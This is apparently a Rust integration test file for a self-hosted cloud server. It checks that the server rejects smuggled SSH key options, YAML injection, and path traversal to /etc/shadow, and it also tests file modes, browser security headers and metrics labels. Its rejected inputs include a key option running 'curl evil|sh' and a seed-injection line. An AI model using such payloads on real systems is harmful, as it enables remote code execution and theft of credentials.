//! The host-side protections, each tried the way an attacker would: key pairs that smuggle
//! `authorized_keys` options or YAML into the guest's seed, ImportImage reaching for host files,
//! the modes of the data directory and database, the console's browser headers, the /metrics
//! label set and 405 on undeclared methods.

use std::collections::BTreeSet;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::time::Duration;

use nuvem_api::ErrorCode;
use nuvem_api::ec2::InstanceState;
use nuvem_sdk::Credentials;
use rand::Rng;
use serde_json::{Value, json};

use crate::common::{Backend, Cloud};

fn code<T: std::fmt::Debug>(r: Result<T, nuvem_sdk::Error>) -> (ErrorCode, String) {
    let e = r.expect_err("the call should fail");
    (e.code().expect("an API error"), e.to_string())
}

fn mode(p: &Path) -> u32 {
    std::fs::metadata(p)
        .unwrap_or_else(|e| panic!("{}: {e}", p.display()))
        .permissions()
        .mode()
        & 0o7777
}

/// A real OpenSSH public key line (type, base64), made by ssh-keygen.
fn real_key(dir: &Path, kind: &str) -> String {
    let f = dir.join(format!("id_{kind}"));
    let out = std::process::Command::new("ssh-keygen")
        .args(["-q", "-t", kind, "-N", "", "-C", "x", "-f"])
        .arg(&f)
        .output()
        .expect("ssh-keygen");
    assert!(out.status.success(), "{out:?}");
    let line = std::fs::read_to_string(f.with_extension("pub")).unwrap();
    let mut parts = line.split_whitespace();
    format!("{} {}", parts.next().unwrap(), parts.next().unwrap())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn key_pairs_cannot_smuggle_options_or_yaml() {
    let cloud = Cloud::start(Backend::Sqlite).await.unwrap();
    let root = cloud.account("keys").await;
    let tmp = tempfile::tempdir().unwrap();
    let ed = real_key(tmp.path(), "ed25519");
    let rsa_blob = real_key(tmp.path(), "rsa");
    let rsa_blob = rsa_blob.split(' ').nth(1).unwrap();
    for (i, bad) in [
        format!("command=\"/bin/sh -c 'curl evil|sh'\" {ed} me"),
        format!("no-pty,from=\"*\" {ed}"),
        format!("{ed} me\rruncmd: [reboot]"),
        format!("{ed}\r"),
        format!("{ed} me\u{1b}[2J"),
        format!("ssh-ed25519 {rsa_blob} claims to be ed25519"),
        format!("ssh-rsa {}", ed.split(' ').nth(1).unwrap()),
        "ssh-ed25519 AAAA-not-base64".to_owned(),
        "garbage".to_owned(),
        "ssh-dss AAAAB3NzaC1kc3MAAACBAP1/U4Ed x".to_owned(),
    ]
    .iter()
    .enumerate()
    {
        let (c, msg) = code(root.create_key_pair(&format!("bad{i}"), Some(bad)).await);
        assert_eq!(c, ErrorCode::InvalidRequest, "{bad:?}: {msg}");
    }
    assert!(root.list_key_pairs().await.unwrap().items.is_empty());

    // Normal keys import (a trailing newline, as read from a file, is fine).
    let good = root
        .create_key_pair("laptop", Some(&format!("{ed} alice@laptop\n")))
        .await
        .unwrap();
    assert_eq!(good.key_pair.key_type, "ssh-ed25519");
    assert_eq!(good.key_pair.public_key, format!("{ed} alice@laptop"));
    let rsa = root
        .create_key_pair("rsa", Some(&format!("ssh-rsa {rsa_blob}")))
        .await
        .unwrap();
    assert_eq!(rsa.key_pair.key_type, "ssh-rsa");

    // What does reach the seed is quoted: a comment with quotes and backslashes stays a string.
    let odd = format!("{ed} a\"b\\c: d");
    root.create_key_pair("odd", Some(&odd)).await.unwrap();
    let image = cloud.fake_image("seed-img", None).await;
    let i = root
        .run_instances(
            &serde_json::from_value(
                json!({"image_id": image, "instance_type": "t3.nano", "key_name": "odd"}),
            )
            .unwrap(),
        )
        .await
        .unwrap()
        .items
        .remove(0);
    let i = root
        .wait_for_state(&i.id, InstanceState::Running, Duration::from_secs(30))
        .await
        .unwrap();
    // The simulated hypervisor writes the seed's meta-data as text.
    let seed = std::fs::read_to_string(
        cloud
            .data_dir()
            .join("compute/instances")
            .join(&i.id)
            .join("seed.iso"),
    )
    .unwrap();
    let meta = seed.split("\n---\n").next().unwrap();
    assert_eq!(
        meta,
        format!(
            "instance-id: \"{}\"\nlocal-hostname: \"{}\"\npublic-keys:\n  - \"{ed} a\\\"b\\\\c: d\"\n",
            i.id, i.name
        )
    );
    cloud.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn image_import_reads_only_the_import_directory() {
    let cloud = Cloud::start(Backend::Sqlite).await.unwrap();
    let import = cloud.data_dir().join("import");
    assert_eq!(mode(&import), 0o700, "the import directory is root's");
    let secret = cloud.data_dir().join("nuvem.db");
    std::os::unix::fs::symlink("/etc/shadow", import.join("shadow")).unwrap();
    std::os::unix::fs::symlink(&secret, import.join("db")).unwrap();
    std::fs::write(import.join("initrd.img"), b"initrd").unwrap();
    let import_str = import.display().to_string();
    for kernel in [
        "/etc/shadow".to_owned(),
        format!("{import_str}/shadow"),
        format!("{import_str}/db"),
        format!("{import_str}/../nuvem.db"),
        "../nuvem.db".to_owned(),
        "shadow".to_owned(),
    ] {
        let (c, msg) = code(
            cloud
                .admin
                .import_image(
                    &serde_json::from_value(json!({"name": "stolen", "format": "kernel-initrd",
                        "kernel_path": kernel, "initrd_path": import.join("initrd.img")}))
                    .unwrap(),
                )
                .await,
        );
        assert_eq!(c, ErrorCode::InvalidRequest, "{kernel}: {msg}");
        assert!(
            msg.contains(&import_str),
            "{kernel}: names the directory: {msg}"
        );
    }
    let (c, msg) = code(
        cloud
            .admin
            .import_image(
                &serde_json::from_value(
                    json!({"name": "stolen", "format": "qcow2", "disk_path": "/etc/shadow"}),
                )
                .unwrap(),
            )
            .await,
    );
    assert_eq!(c, ErrorCode::InvalidRequest, "{msg}");
    assert!(cloud.admin.list_images().await.unwrap().items.is_empty());

    // A file inside works, by absolute path or relative to the directory; the copy is root's.
    std::fs::write(import.join("vmlinuz"), b"kernel").unwrap();
    let img = cloud
        .admin
        .import_image(
            &serde_json::from_value(json!({"name": "mine", "format": "kernel-initrd",
                "kernel_path": import.join("vmlinuz"), "initrd_path": "initrd.img"}))
            .unwrap(),
        )
        .await
        .unwrap();
    let copy = cloud
        .data_dir()
        .join("images")
        .join(&img.id)
        .join("vmlinuz");
    assert_eq!(std::fs::read(&copy).unwrap(), b"kernel");
    assert_eq!(mode(&copy), 0o600);
    cloud.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_server_makes_its_data_private() {
    let cloud = Cloud::start(Backend::Sqlite).await.unwrap();
    // Something written, so that SQLite has its -wal and -shm files.
    let root = cloud.account("modes").await;
    root.create_key_pair("k", None).await.unwrap();
    let d = cloud.data_dir();
    assert_eq!(mode(d), 0o700, "data directory");
    for f in [
        "nuvem.db",
        "nuvem.db-wal",
        "nuvem.db-shm",
        "initial-admin-password",
        "keys/jwt.key",
        "keys/secrets.key",
    ] {
        assert_eq!(mode(&d.join(f)), 0o600, "{f}");
    }
    for dir in [
        "keys",
        "tmp",
        "import",
        "compute",
        "compute/instances",
        "images",
    ] {
        assert_eq!(mode(&d.join(dir)), 0o700, "{dir}");
    }
    // Modes loosened by hand are narrowed again at the next start.
    std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(d.join("nuvem.db"), std::fs::Permissions::from_mode(0o644)).unwrap();
    let (server, dir) = cloud.restart().await;
    assert_eq!(mode(dir.path()), 0o700);
    assert_eq!(mode(&dir.path().join("nuvem.db")), 0o600);
    assert_eq!(std::fs::metadata(dir.path()).unwrap().uid(), my_uid());
    server.stop().await;

    // A world-writable directory such as /tmp is refused rather than chmod'ed.
    let shared = tempfile::tempdir().unwrap();
    std::fs::set_permissions(shared.path(), std::fs::Permissions::from_mode(0o1777)).unwrap();
    let err =
        nuvem_server::server::start(nuvem_server::config::Config::for_tests(shared.path(), None))
            .await
            .err()
            .expect("refused");
    assert!(err.to_string().contains("writable by every user"), "{err}");
    assert_eq!(mode(shared.path()), 0o1777, "left as it was");
}

/// The uid of this process (the data directory's owner).
fn my_uid() -> u32 {
    std::fs::metadata("/proc/self").unwrap().uid()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn console_and_api_responses_carry_browser_protections() {
    let cloud = Cloud::start(Backend::Sqlite).await.unwrap();
    let console = cloud.data_dir().join("console");
    std::fs::create_dir_all(&console).unwrap();
    std::fs::write(
        console.join("index.html"),
        "<!doctype html><script type=module src=/console/boot.js></script>",
    )
    .unwrap();
    std::fs::write(console.join("boot.js"), "// boot").unwrap();
    let http = reqwest::Client::new();
    for path in [
        "/",
        "/console/boot.js",
        "/healthz",
        "/v1/iam/users",
        "/nowhere",
    ] {
        let res = http
            .get(format!("{}{path}", cloud.url()))
            .send()
            .await
            .unwrap();
        let h = res.headers();
        let get = |n: &str| h.get(n).and_then(|v| v.to_str().ok()).unwrap_or_default();
        let csp = get("content-security-policy");
        for directive in [
            "default-src 'self'",
            "script-src 'self' 'wasm-unsafe-eval'",
            "frame-ancestors 'none'",
            "object-src 'none'",
        ] {
            assert!(
                csp.contains(directive),
                "{path}: CSP {csp:?} lacks {directive}"
            );
        }
        assert!(!csp.contains("unsafe-inline"), "{path}: {csp}");
        assert_eq!(get("x-frame-options"), "DENY", "{path}");
        assert_eq!(get("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(get("referrer-policy"), "no-referrer", "{path}");
    }
    // The console's own page has no inline script for the CSP to block.
    let page = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../console/static/index.html"),
    )
    .unwrap();
    assert!(
        page.contains("<script type=\"module\" src=\"/console/boot.js\"></script>"),
        "{page}"
    );
    assert!(!page.contains("import init"), "inline script left: {page}");
    cloud.stop().await;
}

fn token(cloud: &Cloud) -> String {
    match cloud.admin.credentials() {
        Credentials::Session { token } => token.clone(),
        other => panic!("expected a session, got {other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn made_up_methods_do_not_grow_metrics_and_get_405() {
    let cloud = Cloud::start(Backend::Sqlite).await.unwrap();
    let http = reqwest::Client::new();
    let url = cloud.url();
    let mut sent = Vec::new();
    for _ in 0..50 {
        let name: String = (0..10)
            .map(|_| (b'A' + rand::thread_rng().gen_range(0..26u8)) as char)
            .collect();
        let method = reqwest::Method::from_bytes(name.as_bytes()).unwrap();
        http.request(method, format!("{url}/v1/iam/users"))
            .send()
            .await
            .unwrap();
        sent.push(name);
    }
    let text = http
        .get(format!("{url}/metrics"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let methods: BTreeSet<&str> = text
        .lines()
        .filter(|l| l.starts_with("nuvem_http_requests_total{"))
        .filter_map(|l| l.split("method=\"").nth(1)?.split('"').next())
        .collect();
    assert!(methods.contains("OTHER"), "{methods:?}");
    assert!(
        methods.len() <= 8,
        "the method label has a fixed set of values: {methods:?}"
    );
    for name in &sent {
        assert!(!text.contains(name.as_str()), "{name} became a label");
    }

    // An undeclared method on a path that exists: 405, Allow, the usual error body.
    for auth in [Some(token(&cloud)), None] {
        let mut req = http.patch(format!("{url}/v1/iam/users"));
        if let Some(t) = &auth {
            req = req.bearer_auth(t);
        }
        let res = req.send().await.unwrap();
        assert_eq!(res.status().as_u16(), 405);
        let allow = res
            .headers()
            .get("allow")
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_owned();
        let allowed: Vec<&str> = allow.split(", ").collect();
        assert!(
            allowed.contains(&"GET") && allowed.contains(&"POST") && !allowed.contains(&"PATCH"),
            "Allow: {allow}"
        );
        let body: Value = res.json().await.unwrap();
        assert_eq!(body["code"], "MethodNotAllowed", "{body}");
        assert!(body["message"].as_str().unwrap().contains("GET"), "{body}");
        assert!(!body["request_id"].as_str().unwrap().is_empty(), "{body}");
    }
    // A parameterised path, and the routes outside the API document.
    for (method, path, want) in [
        ("PUT", "/v1/iam/users/alice", &["GET", "DELETE"][..]),
        ("POST", "/metrics", &["GET"]),
        ("DELETE", "/", &["GET"]),
    ] {
        let res = http
            .request(
                reqwest::Method::from_bytes(method.as_bytes()).unwrap(),
                format!("{url}{path}"),
            )
            .send()
            .await
            .unwrap();
        assert_eq!(res.status().as_u16(), 405, "{method} {path}");
        let allow = res.headers()["allow"].to_str().unwrap().to_owned();
        let allowed: Vec<&str> = allow.split(", ").collect();
        assert!(
            want.iter().all(|m| allowed.contains(m)) && !allowed.contains(&method),
            "{method} {path}: Allow {allow}"
        );
    }
    // A path that does not exist stays 404.
    let res = http
        .patch(format!("{url}/v1/iam/nothing"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status().as_u16(), 404);
    cloud.stop().await;
}
